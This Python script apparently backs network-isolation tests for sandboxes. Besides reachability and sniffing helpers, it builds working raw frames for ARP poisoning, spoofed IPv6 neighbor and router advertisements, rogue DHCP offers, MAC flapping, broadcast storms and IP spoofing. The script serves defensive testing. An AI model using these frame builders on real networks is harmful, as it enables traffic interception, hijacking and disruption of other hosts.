#!/usr/bin/env python3
"""What runs inside the sandboxes of the cases about networks.

    netprobe.py try SECONDS TARGET...         which of the targets answer, all asked at once: a JSON list of true and false
                                              TARGET: tcp/ADDRESS/PORT, udp/ADDRESS/PORT (see service.py), ping/ADDRESS
    netprobe.py attack KIND COUNT IFNAME OTHER4 OTHER6 GATEWAY4 GATEWAY6
                                              send frames that nobody should get; KIND is a function's name below
    netprobe.py sniff IFNAME FILE             until standard input ends: what arrives, counted into a JSON object
    netprobe.py follow ADDRESS PORT           a connection whose end is told with the time that it came at
    netprobe.py again ADDRESS PORT SECONDS    connect again and again, until it works; the time of that
"""
import json
import os
import random
import select
import socket
import struct
import subprocess
import sys
import threading
import time

BROADCAST = b"\xff" * 6


# Who answers


def answers(target, seconds):
    kind, address, *port = target.split("/")
    end = time.monotonic() + seconds
    if kind == "ping":
        ping = ["ping", "-n", "-c", "2", "-i", "0.5", "-W", str(seconds), address]
        return subprocess.run(ping, stdin=subprocess.DEVNULL, capture_output=True, check=False).returncode == 0
    family, to = (i := socket.getaddrinfo(address, int(port[0]))[0])[0], i[4]
    while (left := end - time.monotonic()) > 0:
        with socket.socket(family, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM) as sock:
            # A datagram may be lost, so it is sent again.
            sock.settimeout(left if kind == "tcp" else min(left, 0.5))
            try:
                sock.connect(to)
                sock.sendall(b"whoami\n")
                return bool(sock.recv(1000))
            except OSError:
                if kind == "tcp":
                    return False
    return False


def try_all(seconds, *targets):
    said = {}
    threads = [threading.Thread(target=lambda t=t: said.update({t: answers(t, float(seconds))})) for t in targets]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps([said[target] for target in targets]))


def follow(address, port):
    sock = socket.create_connection((address, int(port)), 10)
    sock.settimeout(None)
    sock.sendall(b"hold\n")
    print(sock.recv(100).decode(), flush=True)
    try:
        how = "end" if not sock.recv(1) else "more"
    except ConnectionError:
        how = "reset"
    except OSError as error:
        how = f"error {error}"
    print(how, time.clock_gettime(time.CLOCK_MONOTONIC), flush=True)


def again(address, port, seconds):
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        if answers(f"tcp/{address}/{port}", 0.5):
            print(time.clock_gettime(time.CLOCK_MONOTONIC))
            return
        time.sleep(0.02)
    sys.exit(f"nothing within {seconds} s")


# Frames that nobody should get


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ethernet(to, source, kind, body):
    return to + source + struct.pack("!H", kind) + body


def ipv4(source, to, protocol, body):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 7, 0, 64, protocol, 0, source, to)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def ipv6(source, to, following, body, hops=255):
    return struct.pack("!IHBB", 6 << 28, len(body), following, hops) + source + to + body


def udp(source_port, port, data):
    # Without a checksum, which IPv4 allows.
    return struct.pack("!HHHH", source_port, port, 8 + len(data), 0) + data


def icmpv6(source, to, body):
    pseudo = source + to + struct.pack("!II", len(body), 58)
    return body[:2] + struct.pack("!H", checksum(pseudo + body[:2] + b"\0\0" + body[4:])) + body[4:]


def arp(operation, mac, ip, to_mac, to_ip):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, operation, mac, ip, to_mac, to_ip)


class Attack:
    """One frame after the other, from a sandbox that is `mac`, `own4`, `own6`."""

    def __init__(self, ifname, other4, other6, gateway4, gateway6):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.sock.bind((ifname, 0))
        self.mac = self.sock.getsockname()[4]
        self.other4, self.gateway4 = (socket.inet_aton(a) for a in (other4, gateway4))
        self.other6, self.gateway6 = (socket.inet_pton(socket.AF_INET6, a) for a in (other6, gateway6))
        self.other_mac, self.gateway_mac = b"\x02\x42" + self.other4, b"\x02\x42" + self.gateway4
        self.own4 = self.mac[2:]
        self.local6 = b"\xfe\x80" + bytes(6) + bytes([self.mac[0] ^ 2]) + self.mac[1:3] + b"\xff\xfe" + self.mac[3:]
        self.everybody6 = socket.inet_pton(socket.AF_INET6, "ff02::1")

    def arp_storm(self):
        """Requests for addresses that nobody has."""
        nobody = self.own4[:2] + bytes([self.own4[2] | 15, random.randrange(2, 250)])
        yield ethernet(BROADCAST, self.mac, 0x806, arp(1, self.mac, self.own4, bytes(6), nobody))

    def broadcasts(self):
        """What may be flooded, but not without measure."""
        yield ethernet(BROADCAST, self.mac, 0x800, ipv4(self.own4, b"\xff" * 4, 17, udp(9, 9, b"to all")))

    def flapping(self):
        """From Ethernet addresses that change, others' among them."""
        for mac in (b"\x02" + os.urandom(5), self.other_mac, self.gateway_mac):
            yield ethernet(BROADCAST, mac, 0x800, ipv4(self.own4, b"\xff" * 4, 17, udp(9, 9, b"flap")))
            yield ethernet(self.other_mac, mac, 0x800, ipv4(self.own4, self.other4, 17, udp(9, 9, b"flap")))

    def arp_lies(self):
        """The gateway's and the other's addresses are mine."""
        for to, ip, to_ip in ((self.other_mac, self.gateway4, self.other4), (self.gateway_mac, self.other4, self.gateway4)):
            for operation in (1, 2):
                yield ethernet(to, self.mac, 0x806, arp(operation, self.mac, ip, to, to_ip))
                yield ethernet(BROADCAST, self.mac, 0x806, arp(operation, self.mac, ip, bytes(6), ip))
        # With an Ethernet address inside that is not the frame's.
        yield ethernet(self.other_mac, self.mac, 0x806, arp(2, b"\x02\0\0\0\0\x01", self.own4, self.other_mac, self.other4))

    def neighbor_lies(self):
        """Neighbor advertisements: the gateway's and the other's addresses are mine."""
        for to_mac, to, ip in ((self.other_mac, self.other6, self.gateway6), (self.gateway_mac, self.gateway6, self.other6)):
            body = struct.pack("!BBHI", 136, 0, 0, 0x60000000) + ip + b"\x02\x01" + self.mac
            for mac, address in ((to_mac, to), (b"\x33\x33\0\0\0\x01", self.everybody6)):
                yield ethernet(mac, self.mac, 0x86DD, ipv6(self.local6, address, 58, icmpv6(self.local6, address, body)))

    def routers(self):
        """Router advertisements and redirects."""
        prefix = socket.inet_pton(socket.AF_INET6, "fd66::")
        option = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + prefix
        body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + option
        to = self.everybody6
        yield ethernet(b"\x33\x33\0\0\0\x01", self.mac, 0x86DD, ipv6(self.local6, to, 58, icmpv6(self.local6, to, body)))
        body = struct.pack("!BBHI", 137, 0, 0, 0) + self.local6 + self.gateway6
        to = self.other6
        yield ethernet(self.other_mac, self.mac, 0x86DD, ipv6(self.local6, to, 58, icmpv6(self.local6, to, body)))

    def dhcp_answers(self):
        """An offer and an acknowledgement, with me as the router."""
        for kind in (2, 5):
            fixed = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 2, 1, 6, 0, 1, 0, 0, bytes(4), self.other4, self.own4,
                                bytes(4), self.other_mac, b"", b"")
            options = b"\x63\x82\x53\x63\x35\x01" + bytes([kind]) + b"\x36\x04" + self.own4 + b"\x03\x04" + self.own4 + b"\xff"
            for to in (BROADCAST, self.other_mac):
                yield ethernet(to, self.mac, 0x800, ipv4(self.own4, b"\xff" * 4, 17, udp(67, 68, fixed + options)))

    def addresses_of_others(self):
        """Packets from the other, from the gateway, from anywhere."""
        for source in (self.gateway4, bytes([192, 0, 2, 1]), bytes([127, 0, 0, 1])):
            yield ethernet(self.other_mac, self.mac, 0x800, ipv4(source, self.other4, 17, udp(53, 9, b"spoofed")))
        yield ethernet(self.gateway_mac, self.mac, 0x800, ipv4(self.other4, self.gateway4, 17, udp(9, 53, b"spoofed")))
        for source in (self.gateway6, socket.inet_pton(socket.AF_INET6, "2001:db8::1")):
            body = icmpv6(source, self.other6, struct.pack("!BBHHH", 128, 0, 0, 1, 1))
            yield ethernet(self.other_mac, self.mac, 0x86DD, ipv6(source, self.other6, 58, body))

    def send(self, kind, count):
        sent = 0
        while sent < count:
            # No faster than a queue of a thousand frames is emptied: what the kernel drops proves nothing.
            if sent // 100 > (sent - 10) // 100:
                time.sleep(0.003)
            for frame in getattr(self, kind)():
                try:
                    self.sock.send(frame)
                    sent += 1
                except OSError:
                    time.sleep(0.001)
        print(sent)


def sniff(ifname, path):
    """Counts who sent, and of what kind: router advertisements and the like; and who claims what address."""
    seen = {"ra": {}, "redirect": {}, "dhcp": {}, "broadcast": {}, "spoofed": {}, "senders": {}, "claims": {}}

    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    sock.bind((ifname, 3))
    print("ready", flush=True)
    claim = lambda ip, mac: seen["claims"].setdefault(ip, {}).update({mac.hex(":"): 1})

    def count(what, sender):
        seen[what][sender] = seen[what].get(sender, 0) + 1

    while True:
        ready, _, _ = select.select([sock, sys.stdin], [], [])
        if sock not in ready:
            break
        frame, about = sock.recvfrom(65536)
        if about[2] == socket.PACKET_OUTGOING:
            continue
        sender, kind = frame[6:12].hex(":"), frame[12:14]
        count("senders", sender)
        if frame[:6] == BROADCAST:
            count("broadcast", sender)
        if b"spoofed" in frame:
            count("spoofed", sender)
        if kind == b"\x08\x06" and len(frame) >= 42:
            claim(socket.inet_ntoa(frame[28:32]), frame[22:28])
        if kind == b"\x08\0" and frame[23] == 17 and frame[34:38] == b"\0\x43\0\x44":
            count("dhcp", sender)
        if kind == b"\x86\xdd" and frame[20] == 58:
            if frame[54] in (134, 137):
                count("ra" if frame[54] == 134 else "redirect", sender)
            if frame[54] == 136 and len(frame) >= 86:
                claim(socket.inet_ntop(socket.AF_INET6, frame[62:78]), frame[80:86])
    with open(path, "w") as file:
        json.dump(seen, file)


if __name__ == "__main__":
    verb, *words = sys.argv[1:]
    if verb == "try":
        try_all(*words)
    elif verb == "follow":
        follow(*words)
    elif verb == "again":
        again(*words)
    elif verb == "sniff":
        sniff(*words)
    else:
        kind, count, *addresses = words
        Attack(*addresses).send(kind, int(count))
